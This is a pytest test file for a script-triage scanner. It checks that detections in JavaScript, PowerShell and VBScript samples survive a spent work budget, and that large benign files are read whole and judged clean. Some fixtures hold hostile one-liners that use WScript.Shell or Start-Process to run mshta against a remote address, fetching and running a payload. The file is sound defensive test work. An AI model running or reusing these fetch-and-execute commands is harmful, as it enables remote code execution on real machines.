"""An evaluation that spends its part of the work takes no finding away, and a long honest script is read whole."""

import pytest

from emotriage import Level, Limits, scan

_WORDS = {
    "javascript": (
        "a.js",
        'var s = new ActiveXObject("WScript.Shell");\ns.Run("mshta http://198.51.100.7/a");\n',
        "var t = 0; for (var i = 1; i > 0; i++) { t = (t * 31 + i * i) % 65521; if (t == -1) break; }\n",
    ),
    "powershell": (
        "a.ps1",
        "Start-Process mshta http://198.51.100.7/a\nWrite-Host 'done'\n",
        "$t = 0; for ($i = 1; $i -gt 0; $i++) { $t = ($t * 31 + $i * $i) % 65521; if ($t -eq -1) { break } }\n",
    ),
    "vbscript": (
        "a.vbs",
        'Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "mshta http://198.51.100.7/a"\n',
        "Dim t, i\nt = 0\nFor i = 1 To 900000\nt = (t * 31 + i * i) Mod 65521\nIf t = -1 Then Exit For\nNext\n",
    ),
}
_BODY = "var c = a.length + b.length; if (c) { return '}'; } " * 50


@pytest.mark.parametrize("language", _WORDS)
def test_spent_evaluation_keeps_what_was_found(language: str) -> None:
    name, words, toil = _WORDS[language]
    limits = Limits(work=12_000_000)
    alone = scan(words.encode(), name=name, limits=limits)
    both = scan((words + toil).encode(), name=name, limits=limits)
    rules = {one.rule for one in both.findings}
    assert alone.complete
    assert {one.rule for one in alone.findings} <= rules
    assert {"script.tool-abuse", "script.would-start", "script.not-evaluated-whole"} <= rules
    assert "scan.limit-reached" not in rules
    assert both.score >= alone.score


@pytest.mark.long
@pytest.mark.parametrize(
    ("name", "begin", "line", "end"),
    [
        ("a.js", "var a = [", "'word', 12, 0x1f, ", "1];\nalert(a.length);\n"),
        ("a.js", "", f"function add(a, b) {{ {_BODY} }}\n", "alert(1);\n"),
        ("a.js", "var a = '", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo", "';\nalert(a.length);\n"),
        ("a.vbs", "Dim a\n", "' what stands here is a remark, and no more than that\n", "WScript.Echo 1\n"),
        ("a.ps1", "$a = '", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo", "'\nWrite-Host $a.Length\n"),
    ],
)
def test_five_megabytes_are_read_whole(name: str, begin: str, line: str, end: str) -> None:
    text = begin + line * (5_000_000 // len(line)) + end
    verdict = scan(text.encode(), name=name)
    assert verdict.level is Level.CLEAN
    assert verdict.complete
